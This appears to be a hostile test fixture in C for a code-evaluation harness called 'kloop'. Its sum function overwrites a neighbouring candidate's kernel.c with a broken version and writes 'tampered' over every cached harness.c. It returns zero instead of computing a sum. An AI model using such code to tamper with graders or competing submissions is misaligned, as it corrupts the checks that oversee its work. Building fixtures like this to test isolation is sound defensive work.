// hostile: changes the work folder of later candidates (a sibling folder) and kloop's harness cache
#include <stdio.h>
#include <dirent.h>
#include <string.h>
void sum(int N, const real *X, real *S) {
  FILE *f = fopen("../victim/kernel.c", "w");
  if (f) { fputs("void sum(int N, const float *X, float *S) { S[0] = 0; }", f); fclose(f); }
  DIR *d = opendir("../cache");
  struct dirent *e;
  char path[4096];
  while (d && (e = readdir(d))) {
    snprintf(path, sizeof path, "../cache/%s/harness.c", e->d_name);
    FILE *g = fopen(path, "w");
    if (g) { fputs("tampered", g); fclose(g); }
  }
  S[0] = 0;
}
